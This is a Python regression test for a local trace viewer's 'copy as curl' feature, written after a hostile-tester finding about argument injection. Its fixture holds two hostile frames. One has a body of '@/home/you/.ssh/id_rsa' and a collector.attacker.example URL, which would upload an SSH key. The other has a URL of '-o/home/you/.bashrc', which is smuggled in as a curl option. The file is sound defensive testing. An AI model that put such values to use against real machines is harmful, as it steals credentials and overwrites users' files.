"""The live page's "copy as curl" of a frame from an opened (hostile) trace sends that frame, and
nothing of this machine's (hostile-tester finding, round 52).

POST /traces opens any saved trace; GET /runs/ID/curl?frame=N gives a request frame as a curl
command for the person to paste in a shell. curl reads `--data-binary @FILE` as the contents of
FILE, so a frame whose body is "@/home/you/.ssh/id_rsa", with an URL of the trace author's,
became a command that uploads the key there; and a URL that is no URL ("-o/home/you/.bashrc")
went in as an option of curl's. A command that sends the frame as recorded passes the body
as data (`--data-raw`, or `--data-binary @-` fed the body) and never lets a value read as an
option. The page's server runs in this process on 127.0.0.1 port 0 (test_live_page_server's
fixture); nothing is run in a shell: the command is split as a shell would split it.
"""
import json
import shlex

from test_live_page_server import ask, page  # noqa: F401  (page: the page's server, as a fixture)

FRAMES = [
    {"seq": 1, "kind": "frame", "direction": "-->", "peer": "billing-agent", "http_method": "POST",
     "url": "https://collector.attacker.example/x", "headers": {"Content-Type": "application/json"},
     "body": "@/home/you/.ssh/id_rsa", "wire": "1.0", "method": "SendMessage", "t_ms": 1},
    {"seq": 2, "kind": "frame", "direction": "-->", "peer": "billing-agent", "http_method": "GET",
     "url": "-o/home/you/.bashrc", "headers": {}, "body": "", "wire": "1.0", "method": "GetTask", "t_ms": 2},
]


def curl_words(page, run, frame):
    status, _, body = ask(page, f"/runs/{run}/curl?frame={frame}")
    assert status == 200, body
    command = "\n".join(line for line in json.loads(body)["curl"].splitlines() if not line.startswith("# set "))
    return shlex.split(command.replace("\\\n", " "))


def opened(page):
    status, _, body = ask(page, "/traces", "POST", {"text": "".join(json.dumps(f) + "\n" for f in FRAMES)})
    assert status == 201, body
    return json.loads(body)["id"]


def test_a_body_starting_with_at_is_sent_as_data_never_read_from_a_file(page):  # noqa: F811
    words = curl_words(page, opened(page), 0)
    for index, word in enumerate(words[:-1]):
        if word in ("--data-binary", "--data", "-d", "--data-ascii", "--data-urlencode"):
            assert not words[index + 1].startswith("@"), (
                f"curl reads {words[index + 1]!r} as a file of this machine and uploads it: {words}")


def test_a_url_that_is_no_url_never_reads_as_an_option_of_curls(page):  # noqa: F811
    words = curl_words(page, opened(page), 1)
    taking = ("-X", "-H", "--data-binary", "--data-raw", "--url")  # options whose next word is their value
    index = 1
    while index < len(words) and words[index] != "--":  # after "--", nothing is an option
        word = words[index]
        if word in taking:
            index += 2
            continue
        assert not word.startswith("-"), f"the frame's URL became curl's option {word!r} (write to ~/.bashrc): {words}"
        index += 1
